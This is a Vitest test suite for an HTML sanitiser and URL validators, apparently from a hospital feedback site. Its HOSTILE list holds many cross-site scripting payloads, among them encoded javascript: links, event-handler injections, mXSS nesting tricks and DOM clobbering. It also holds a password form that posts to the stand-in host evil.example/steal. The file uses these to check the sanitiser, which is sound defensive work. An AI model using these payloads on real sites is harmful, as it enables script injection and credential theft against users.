// @vitest-environment jsdom
import { describe, expect, it } from 'vitest';
import { safeImageUrl, safeLinkUrl, sanitizeHtml } from './sanitizeHtml';

/** parses sanitised output the way a page would and reports what could run */
function dangers(html: string): string[] {
  const box = document.createElement('div');
  box.innerHTML = html;
  const found: string[] = [];
  for (const el of Array.from(box.querySelectorAll('*'))) {
    const tag = el.tagName.toLowerCase();
    if (
      ['script', 'style', 'form', 'input', 'button', 'textarea', 'select', 'meta', 'link', 'base', 'iframe', 'object', 'embed', 'svg', 'math', 'template'].includes(tag) // prettier-ignore
    )
      found.push(`<${tag}>`);
    for (const a of Array.from(el.attributes)) {
      if (/^on/i.test(a.name)) found.push(`${tag}@${a.name}`);
      if (a.name === 'style' || a.name === 'id' || a.name === 'name')
        found.push(`${tag}@${a.name}`);
      if (
        (a.name === 'href' || a.name === 'src' || a.name === 'action' || a.name === 'formaction') &&
        !/^(https?:|mailto:|data:image\/)/i.test(a.value)
      )
        found.push(`${tag}@${a.name}=${a.value}`);
    }
  }
  return found;
}

const HOSTILE = [
  '<script>window.__xss=1</script>',
  '<img src=x onerror=window.__xss=1>',
  '<img src="https://example.org/a.png" onload="window.__xss=1">',
  '<a href="javascript:window.__xss=1">x</a>',
  '<a href="JaVaScRiPt&colon;window.__xss=1">x</a>',
  '<a href="java&#x09;script:window.__xss=1">x</a>',
  '<a href=" &#14; javascript:window.__xss=1">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html,<script>window.__xss=1</script>">x</a>',
  '<img src="data:text/html;base64,PHNjcmlwdD4=">',
  '<form action="https://evil.example/steal"><input name="password" type="password"><button formaction="javascript:alert(1)">OK</button></form>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<style>body{display:none}</style><p style="position:fixed;inset:0">cover</p>',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<base href="https://evil.example/">',
  '<iframe src="https://evil.example/"></iframe><object data="x.swf"></object><embed src="x.swf">',
  '<svg onload=window.__xss=1><circle r=1></circle></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=window.__xss=1>',
  '<div onclick="window.__xss=1" onmouseover="window.__xss=1">hover</div>',
  '<p id="cookie" name="location">clobber</p>',
  '<template><img src=x onerror=window.__xss=1></template>',
  '<noscript><p title="</noscript><img src=x onerror=window.__xss=1>"></noscript>',
  '<details open ontoggle=window.__xss=1>x</details>',
  '<a href="https://ok.example" target="_self" rel="opener">ok</a>',
];

describe('sanitizeHtml', () => {
  for (const payload of HOSTILE) {
    it(`leaves nothing that runs of ${payload.slice(0, 60)}`, () => {
      const out = sanitizeHtml(payload);
      expect(dangers(out), out).toEqual([]);
      expect(out).not.toMatch(/on\w+\s*=/i);
      expect(out.toLowerCase()).not.toContain('javascript:');
    });
  }

  it('keeps the text of removed form elements', () => {
    expect(sanitizeHtml('<form><label>Họ tên</label><input name="x"></form>')).toBe(
      '<label>Họ tên</label>'.replace(/<\/?label>/g, ''),
    );
  });

  it('keeps basic formatting, Vietnamese and Chinese text unchanged', () => {
    const html =
      '<h3>Cảm ơn quý khách!</h3><p><b>Ý kiến</b> của <i>quý khách</i> giúp Bệnh viện Đà Nẵng ' +
      'phục vụ tốt hơn.</p><ul><li>感谢您的反馈</li><li>我们会在<strong>两个工作日</strong>内回复。</li></ul>' +
      '<p>Tôi &amp; bạn &lt;3</p>';
    expect(sanitizeHtml(html)).toBe(html);
  });

  it('keeps http(s) and mailto links, with rel=noopener', () => {
    expect(sanitizeHtml('<a href="https://benhvien.vn/lien-he" target="_blank">Liên hệ</a>')).toBe(
      '<a href="https://benhvien.vn/lien-he" target="_blank" rel="noopener noreferrer">Liên hệ</a>',
    );
    expect(sanitizeHtml('<a href="mailto:cskh@benhvien.vn">邮件</a>')).toBe(
      '<a href="mailto:cskh@benhvien.vn" rel="noopener noreferrer">邮件</a>',
    );
    expect(sanitizeHtml('<a href="https://x.example" target="_top">x</a>')).toBe(
      '<a href="https://x.example" rel="noopener noreferrer">x</a>',
    );
  });

  it('keeps http(s) and data:image images, drops other sources', () => {
    const png = 'data:image/png;base64,iVBORw0KGgo=';
    expect(sanitizeHtml(`<img src="${png}" alt="logo">`)).toBe(`<img src="${png}" alt="logo">`);
    expect(sanitizeHtml('<img src="https://benhvien.vn/logo.png" width="80">')).toBe(
      '<img src="https://benhvien.vn/logo.png" width="80">',
    );
    expect(sanitizeHtml('<img src="x" onerror="alert(1)">')).toBe('<img>');
  });

  it('returns the empty string for empty or non-string input', () => {
    expect(sanitizeHtml('')).toBe('');
    expect(sanitizeHtml(undefined as unknown as string)).toBe('');
  });
});

describe('safeLinkUrl and safeImageUrl', () => {
  it('accepts http, https, mailto links only', () => {
    expect(safeLinkUrl('https://benhvien.vn')).toBe('https://benhvien.vn');
    expect(safeLinkUrl(' http://a.vn/x ')).toBe('http://a.vn/x');
    expect(safeLinkUrl('mailto:a@b.vn')).toBe('mailto:a@b.vn');
    for (const bad of [
      'javascript:alert(1)',
      'java\tscript:alert(1)',
      'java\nscript:alert(1)',
      '\u0001javascript:alert(1)',
      ' JAVASCRIPT:alert(1)',
      'data:text/html,x',
      'vbscript:x',
      '/relative',
      '',
      null,
      42,
    ])
      expect(safeLinkUrl(bad), String(bad)).toBeNull();
  });

  it('accepts http(s) and data:image images only', () => {
    expect(safeImageUrl('https://a.vn/l.png')).toBe('https://a.vn/l.png');
    expect(safeImageUrl('data:image/jpeg;base64,AAA')).toBe('data:image/jpeg;base64,AAA');
    expect(safeImageUrl('data:text/html;base64,AAA')).toBeNull();
    expect(safeImageUrl('javascript:alert(1)')).toBeNull();
  });
});
